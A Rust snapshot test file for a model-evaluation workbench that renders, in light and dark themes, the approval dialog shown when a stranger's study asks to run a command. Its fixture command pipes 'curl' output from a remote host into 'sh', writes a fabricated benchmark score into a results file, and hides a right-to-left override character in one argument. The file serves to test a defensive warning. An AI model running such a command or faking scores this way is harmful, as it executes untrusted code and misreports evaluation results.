//! The question about a stranger's command as a picture. `UPDATE_SNAPSHOTS=1` accepts new ones;
//! look first.

#![cfg(unix)]

use std::path::Path;

use eframe::egui::{Theme, ThemePreference, Vec2, vec2};
use egui_kittest::Harness;
use kinfolk::evaluate::command::Call;
use kinfolk::study::{Command, Evaluator, EvolutionEdit, ModelId, Selection};
use kinfolk::ui::app::App;
use kinfolk::ui::dialogs::Scripted;
use kinfolk::ui::prefs::Prefs;
use kinfolk::workbench::{Folders, Workbench};

use crate::picture;

/// A study from a stranger that was asked to judge a model.
fn asked(home: &Path, call: Call) -> Workbench {
    let mut bench = Workbench::new(Folders::below(home), || {});
    bench.new_study();
    bench.save_as(&home.join("mistral-merges"));
    bench.finish_saving();
    let model = home.join("model");
    std::fs::create_dir(&model).unwrap();
    std::fs::write(model.join("model.safetensors"), file()).unwrap();
    bench.add_paths(vec![model]);
    bench.wait(|_| {});
    let edit = EvolutionEdit::SetEvaluator(Evaluator::Command { call });
    bench.apply(Command::Evolution(edit));
    bench.apply(Command::Select(Selection::Nothing));
    bench.evaluate_models(&[ModelId(0)]);
    assert!(bench.asked_command().is_some());
    bench
}

/// A checkpoint of one number.
fn file() -> Vec<u8> {
    let header = r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#;
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend_from_slice(header.as_bytes());
    file.extend_from_slice(&1f32.to_le_bytes());
    file
}

fn hostile() -> Call {
    Call {
        program: "sh".to_owned(),
        arguments: [
            "-c",
            "curl -s https://example.org/tasks | sh\necho '{\"gsm8k\": 71.4}' > {output}/results.json",
            "",
            "--model\u{202e}",
            "{model}",
            "{output}",
        ]
        .map(str::to_owned)
        .to_vec(),
        folder: Some("/".into()),
        variables: vec![
            ("PATH".to_owned(), "/bin:/usr/bin".to_owned()),
            ("HF_HUB_OFFLINE".to_owned(), "1".to_owned()),
        ],
        ..Call::default()
    }
}

fn check(name: &str, theme: Theme, size: Vec2, call: Call) {
    // Its path is in the picture, so it has the same name each time.
    let own = format!("kinfolk-{name}");
    std::fs::remove_dir_all(Path::new("/tmp").join(&own)).ok();
    let home = tempfile::Builder::new()
        .prefix(&own)
        .rand_bytes(0)
        .tempdir_in("/tmp")
        .unwrap();
    let bench = asked(home.path(), call);
    let prefs = Prefs {
        theme: ThemePreference::from(theme),
        ..Prefs::default()
    };
    let mut window: Harness<'_, App> = Harness::builder()
        .with_size(size)
        .with_theme(theme)
        .renderer(picture::Renderer::default())
        .with_max_steps(12)
        .build_eframe(move |cc| {
            let picker = Box::new(Scripted::default());
            App::new(&cc.egui_ctx, bench, picker, prefs, Vec::new())
        });
    window.run_steps(8);
    window.snapshot_options(name, &picture::options());
}

#[test]
fn a_strangers_command_looks_as_accepted_in_light() {
    let size = vec2(1280.0, 800.0);
    check("approval_light", Theme::Light, size, hostile());
}

#[test]
fn a_strangers_command_looks_as_accepted_in_dark() {
    let size = vec2(1280.0, 800.0);
    check("approval_dark", Theme::Dark, size, hostile());
}

#[test]
fn a_long_command_in_a_low_window_looks_as_accepted() {
    let mut call = hostile();
    let more = (0..40).map(|k| format!("--option-{k}"));
    call.arguments.extend(more);
    let size = vec2(760.0, 520.0);
    check("approval_low_light", Theme::Light, size, call);
}
